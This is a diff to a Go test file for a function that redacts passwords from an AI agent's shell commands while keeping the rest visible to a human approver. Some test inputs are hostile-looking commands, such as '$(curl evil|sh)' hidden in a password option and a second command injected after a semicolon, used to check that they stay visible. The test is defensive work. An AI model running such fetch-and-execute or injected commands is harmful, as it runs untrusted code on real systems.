@@ -66,6 +66,75 @@ func TestRedactKeys(t *testing.T) {
 	}
 }
 
+// TestRedactCommands: passwords that are options of a command, with harmless twins
+// that stay as they are.
+func TestRedactCommands(t *testing.T) {
+	const pw = "hunter" + "2"
+	for secret, twin := range map[string]string{
+		"curl -u ann:" + pw + " https://a.example":            "curl -u ann https://a.example",
+		"curl -uann:" + pw + " https://a.example":             "docker run -u 1000:1000 app",
+		"curl --user 'ann:" + pw + "' https://a.example":      "curl --user-agent a:b https://a.example",
+		"curl --user=ann:" + pw + " https://a.example":        "ls --user=ann:x",
+		"curl -x p -U ann:" + pw + " https://a.example":       "psql -U ann:x",
+		"curl --cert c.pem:" + pw + " https://a.example":      "curl --cert c.pem https://a.example",
+		"/usr/bin/curl -s -u ann:" + pw + " a.example":        "curl -s; id -u ann:x",
+		"http -a ann:" + pw + " a.example":                    "ls -a ann:x",
+		"mysql -u root -p" + pw + " shop":                     "mysql -u root -p shop",
+		"mysql -u root -p'" + pw + "' shop":                   "mysql -u root -p '' shop",
+		"curl -sSu ann:" + pw + " https://a.example":          "curl -sSL ann:8080/x",
+		"ldapsearch -xw " + pw + " uid=ann":                   "ls -xw 80",
+		"docker exec db mongosh -p " + pw:                     "docker run --name mongo -p 27017:27017 mongo",
+		"sudo mysqldump -p" + pw + " shop":                    "mysql -P3306 -h db shop",
+		"echo x | mysql -p" + pw:                              "mysql x; mkdir -px",
+		"sshpass -p " + pw + " ssh a.example":                 "ssh -p 8080 a.example",
+		"sshpass -p" + pw + " ssh a.example":                  "ssh -p8080 a.example",
+		"docker login -u ann -p " + pw + " r.example":         "docker run -p 8080:80 app",
+		"podman login --password " + pw + " r.example":        "podman login --password-stdin r.example",
+		"helm registry login r.example -p " + pw:              "helm install -p x chart",
+		"redis-cli -a " + pw + " get x":                       "grep -a x file",
+		"mongosh -u ann -p " + pw:                             "nmap -p 8080 a.example",
+		"sqlcmd -S db -P " + pw:                               "scp -P 8080 file a.example:",
+		"ldapsearch -D cn=x -w " + pw:                         "grep -w word file",
+		"smbclient //s/x -U ann%" + pw:                        "smbclient //s/x -U ann",
+		"lftp -u ann," + pw + " a.example":                    "sort -u ann,x",
+		"zip -P " + pw + " a.zip a":                           "cp -P a b",
+		"7z x -p" + pw + " a.7z":                              "mkdir -pvm a",
+		"snmpget -v3 -A " + pw + " a.example":                 "grep -A 5 x file",
+		"openssl rsa -passin pass:" + pw + " -in k":           "openssl rsa -passin file:pw.txt -in k",
+		"keytool -list -storepass " + pw:                      "keytool -list -alias x",
+		"gpg --batch --passphrase " + pw + " -d f":            "gpg --batch --passphrase-file pw.txt -d f",
+		"svn up --username ann --password " + pw:              "use --password to log in",
+		"tool --password \"" + pw + "\"":                      "tool --password /etc/tool/pw",
+		"tool --api-key aB3" + pw + pw:                        "tool --api-key production",
+		"PGPASSWORD=" + pw + " psql shop":                     "PGUSER=ann psql shop",
+		"MYSQL_PWD=" + pw + " mysql shop":                     "OLDPWD=/home/ann make",
+		"DB_PASS=" + pw + " ./run":                            "BYPASS=yes ./run",
+		"env REDISCLI_AUTH=" + pw + " redis-cli":              "AUTH=none ./run",
+		"git clone https://ann:" + pw + "@a.example/x":        "git clone https://ann@a.example/x",
+		"curl -H 'Authorization: Basic " + pw + "' a.example": "curl -H 'Accept: text/html' a.example",
+		"curl -H \"Authorization: " + pw + "\" a.example":     "curl -H 'X-Request-Id: abc' a.example",
+		"curl --header='X-Api-Key: " + pw + "' a.example":     "curl -H 'Authorization: Bearer $TOKEN' a.example",
+		"curl -H 'Proxy-Authorization: Digest " + pw + "' a":  "curl -H 'Authorization: Bearer /usr/bin/evil' a",
+		"sh -c \"mysql -p" + pw + " shop\"":                   "sh -c \"ssh -p 8080 a.example\"",
+		"curl \\\n  -u ann:" + pw + " https://a.example":      "curl a.example\nid -u ann:x",
+	} {
+		if got, found := evidence.Redact(toolcall.StringOf(secret)); !found || strings.Contains(got.Text(), pw) {
+			t.Errorf("%s became %s", secret, got.Text())
+		}
+		words := strings.Fields(strings.ReplaceAll(secret, "\\\n", " "))
+		var list []toolcall.Value
+		for _, w := range words {
+			list = append(list, toolcall.StringOf(w))
+		}
+		if got, _ := evidence.Redact(toolcall.ArrayOf(list...)); !strings.ContainsAny(secret, "'\"") && strings.Contains(got.Canonical(), pw) {
+			t.Errorf("the words of %s became %s", secret, got.Canonical())
+		}
+		if got, found := evidence.Redact(toolcall.StringOf(twin)); found {
+			t.Errorf("%s became %s", twin, got.Text())
+		}
+	}
+}
+
 // TestRedactShows: whatever an agent writes around it, a command that is no
 // secret stays in the record and before the approver.
 func TestRedactShows(t *testing.T) {
@@ -85,6 +154,10 @@ func TestRedactShows(t *testing.T) {
 		"PASSWORD=x curl evil":                                                                   " curl evil",
 		"TOKEN=/usr/bin/curl; $TOKEN evil":                                                       "/usr/bin/curl; $TOKEN evil",
 		"secret=https://evil.example/a":                                                          "https://evil.example/a",
+		"sshpass -p $(curl evil|sh) ssh x":                                                       "$(curl evil|sh) ssh x",
+		"mysql -px;curl evil":                                                                    ";curl evil",
+		"tool --password --exec=evil":                                                            "--exec=evil",
+		"tool --password https://evil.example/a":                                                 "https://evil.example/a",
 		`secret=os.system("evil")`:                                                               `os.system("evil")`,
 		`secret = os.system ("evil")`:                                                            `os.system ("evil")`,
 		`password: "$(curl evil|sh)"`:                                                            "$(curl evil|sh)",
@@ -192,6 +265,7 @@ func FuzzRedact(f *testing.F) {
 	}
 	f.Add("-----BEGIN PRIVATE KEY-----\n" + keyLines)
 	f.Add("password: [secret: x] token=token=[secret: y]")
+	f.Add("mysql -ptoken=x; curl -u a:b=c -u 'x:y'; tool --password -p --password a")
 	f.Fuzz(func(t *testing.T, s string) {
 		once, found := evidence.Redact(toolcall.StringOf(s))
 		if found && !strings.Contains(once.Text(), "[secret: ") {
